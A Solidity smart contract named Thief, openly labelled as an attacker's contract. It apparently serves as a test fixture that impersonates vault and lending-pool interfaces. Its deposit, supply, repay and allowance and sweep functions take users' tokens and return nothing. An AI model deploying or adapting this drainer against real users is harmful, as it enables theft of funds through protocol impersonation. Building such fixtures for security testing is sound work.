// SPDX-License-Identifier: MIT
// The attacker's own contract: it answers to the names of what it imitates and keeps what it is given.
pragma solidity 0.8.27;

interface ITaken {
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
    function balanceOf(address account) external view returns (uint256);
    function transfer(address to, uint256 amount) external returns (bool);
}

contract Thief {
    string public name;
    string public symbol;
    address public asset;

    function describe(string calldata name_, string calldata symbol_, address asset_) external {
        (name, symbol, asset) = (name_, symbol_, asset_);
    }

    function deposit(uint256 assets, address) external returns (uint256) {
        take(asset, assets);
        return assets;
    }

    function supply(address token, uint256 amount, address, uint16) external {
        take(token, amount);
    }

    function supply(address token, uint256 amount) external {
        take(token, amount);
    }

    function repay(address token, uint256 amount, uint256, address) external returns (uint256) {
        take(token, amount);
        return amount;
    }

    /// What a spender with an old allowance does.
    function pullFrom(address token, address from, uint256 amount) external {
        require(ITaken(token).transferFrom(from, address(this), amount));
    }

    /// What code does that an account has delegated itself to.
    function sweep(address token, address to) external {
        require(ITaken(token).transfer(to, ITaken(token).balanceOf(address(this))));
    }

    function executeOperation(address[] calldata, uint256[] calldata, uint256[] calldata, address, bytes calldata)
        external
        pure
        returns (bool)
    {
        return true;
    }

    function take(address token, uint256 amount) private {
        require(ITaken(token).transferFrom(msg.sender, address(this), amount));
    }

    receive() external payable {}

    fallback() external payable {}
}
